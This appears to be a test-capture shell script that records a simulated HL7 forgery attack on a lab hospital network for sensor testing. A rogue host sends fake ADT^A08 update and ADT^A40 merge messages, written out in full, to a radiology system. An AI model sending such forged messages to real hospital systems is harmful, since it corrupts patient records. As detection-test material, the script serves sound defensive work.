#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# attack-hl7-forged: forged HL7 patient updates: the radiology system's MLLP receiver gets the
# usual ADT messages from the HIS, then a patient update (ADT^A08) and a patient merge
# (ADT^A40) from a host that has never sent HL7, under a sending application of its own. Real
# python3-hl7 mllp_send, on the hospital LAN of hospital.sh, seen from the switch's mirror port.
#
#   HIS    10.77.40.20, MSH-3/4 HIS^HOSPITAL (the usual sender)  \
#   LAPTOP 10.77.40.67, MSH-3/4 HL7TOOL^LAPTOP67 (the forger)    --> RIS 10.77.40.21:2575
#   (mllp-ack.py: ACKs every message, MSA|AA|<control id>)
#
# Captured (full snaplen), in this order, one mllp_send --loose connection per file:
#   HIS:    ADT^A01 TEST^ALICE, ADT^A08 TEST^ALICE   (hospital.sh his1.hl7)
#   HIS:    ADT^A04 TEST^BOB, ADT^A03 TEST^ALICE     (his2.hl7)
#   LAPTOP: ADT^A08 for PID-0001 with another address and phone (78 Example Avenue, 555-0404),
#           ADT^A40 merging PID-0002 (TEST^BOB) into PID-0001; control ids FRG00001/2
# Fake patients only; every identifier is listed in tests/integration/test_phi.py.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/pair.sh"
. "$(dirname "$0")/lan.sh"
. "$(dirname "$0")/hospital.sh"
cap_need_root
out=$(cap_outdir attack-hl7-forged)
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"; cap_cleanup' EXIT

cap_hospital hl7frg
cap_hospital_adt "$tmp"
cat >"$tmp/forged.hl7" <<'HL7'
MSH|^~\&|HL7TOOL|LAPTOP67|RIS|RADIOLOGY|20240115120000||ADT^A08^ADT_A01|FRG00001|P|2.5.1
EVN|A08|20240115120000
PID|1||PID-0001^^^HOSPITAL^MR||TEST^ALICE^MARIE||19700101|F|||78 Example Avenue^^Springfield^IL^62701||555-0404
PV1|1|I|WARD1^102^A||||DOC1^REFERRING^DOC
MSH|^~\&|HL7TOOL|LAPTOP67|RIS|RADIOLOGY|20240115120100||ADT^A40^ADT_A39|FRG00002|P|2.5.1
EVN|A40|20240115120100
PID|1||PID-0001^^^HOSPITAL^MR||TEST^ALICE^MARIE||19700101|F
MRG|PID-0002^^^HOSPITAL^MR
HL7

cap_bg "$ris" "$PY" "$(dirname "$0")/mllp-ack.py" "$ris_ip" 2575 6 3
receiver=$CAP_LAST
cap_wait_port "$ris" 2575

cap_start "$CAP_LAN_SENSOR" "$out/input.pcap" -i eth0 -s 0 -B 16384 tcp port 2575

cap_in "$his" mllp_send --loose -f "$tmp/his1.hl7" -p 2575 "$ris_ip" >/dev/null
cap_in "$his" mllp_send --loose -f "$tmp/his2.hl7" -p 2575 "$ris_ip" >/dev/null
cap_in "$laptop" mllp_send --loose -f "$tmp/forged.hl7" -p 2575 "$ris_ip" >/dev/null
wait "$receiver"

cap_stop
# HOW: how it was made and tshark's reference counts (how.py).
$PY "$(dirname "$0")/how.py" "$0" "$out" tcp,hl7 python3-hl7
echo "$0: wrote $out/input.pcap and $out/HOW" >&2
